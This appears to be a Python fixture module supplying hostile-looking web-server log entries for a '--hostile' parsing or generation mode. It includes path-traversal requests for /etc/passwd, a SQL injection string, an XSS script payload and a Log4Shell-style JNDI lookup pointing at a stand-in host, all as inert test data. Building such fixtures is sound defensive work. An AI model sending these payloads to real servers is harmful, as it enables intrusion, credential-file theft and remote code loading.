r"""What `--hostile` mixes in: each entry replaces some fields of an otherwise ordinary line.

Web servers write control bytes and quotes as escapes (`\x16`, `\"`), so these are plain text.
"""


def _request(path: str, status: str = "404", size: str = "153", agent: str = "-") -> dict[str, str]:
    """A scanner's GET."""
    fields = {"method": "GET ", "path": path, "query": "", "protocol": " HTTP/1.1"}
    return {**fields, "status": status, "size": size, "referrer": "-", "agent": agent}


def _no_http(text: str, status: str = "400", size: str = "157") -> dict[str, str]:
    """A request line that is not HTTP at all."""
    return _request(text, status, size) | {"method": "", "protocol": ""}


ODD_LINES: tuple[dict[str, str], ...] = (
    _request("/wp-login.php", agent="Mozilla/5.0 zgrab/0.x"),
    _request("/.env", agent="python-requests/2.32.3"),
    _request("/phpmyadmin/index.php?lang=en"),
    _request("/cgi-bin/../../../../../../etc/passwd", "400"),
    _request("/%2e%2e/%2e%2e/etc/passwd", "400"),
    _request("/index.php?id=1%27%20UNION%20SELECT%201,2,3--%20-", "403", agent="sqlmap/1.8"),
    _request("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "200", "8311"),
    _request("/search?q=<script>alert(1)</script>", "200", "8311"),
    _request("/?x=${jndi:ldap://192.0.2.99/a}", agent="${jndi:ldap://192.0.2.99/a}"),
    _request(r"/\xd0\xbf\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82", "404"),
    _request(r"/a\"b", agent=r"Mozilla/5.0 (compatible; \"quoted\" thing/1.0)"),
    _request("http://proxy.example.org/judge.php", "400"),
    _no_http(r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03"),
    _no_http(r"\x16\x03\x01"),
    _no_http(r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr"),
    _no_http(r"SSH-2.0-Go"),
    _no_http("-", "408", "-"),
    _no_http("", "400", "0"),
    _no_http("GET /"),
    {"method": "PROPFIND ", "status": "405", "size": "157"},
    {"method": "CONNECT ", "path": "mail.example.org:25", "query": "", "status": "405"},
    {"who": "2001:db8::bad:1 - -"},
    {"who": "2001:db8:0:1::2 - -"},
    {"who": "2001:db8:ffff:ffff:ffff:ffff:ffff:ffff - -"},
    {"who": "::ffff:192.0.2.77 - -"},
    {"size": "-"},
    {"agent": r"\"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\""},
    {"agent": r"Mozilla/5.0 \\ backslash\\"},
    {"agent": ""},
    {"referrer": r"https://forum.example.org/?q=\"odd\""},
    {"who": r"198.51.100.13 - o\"brien"},
)
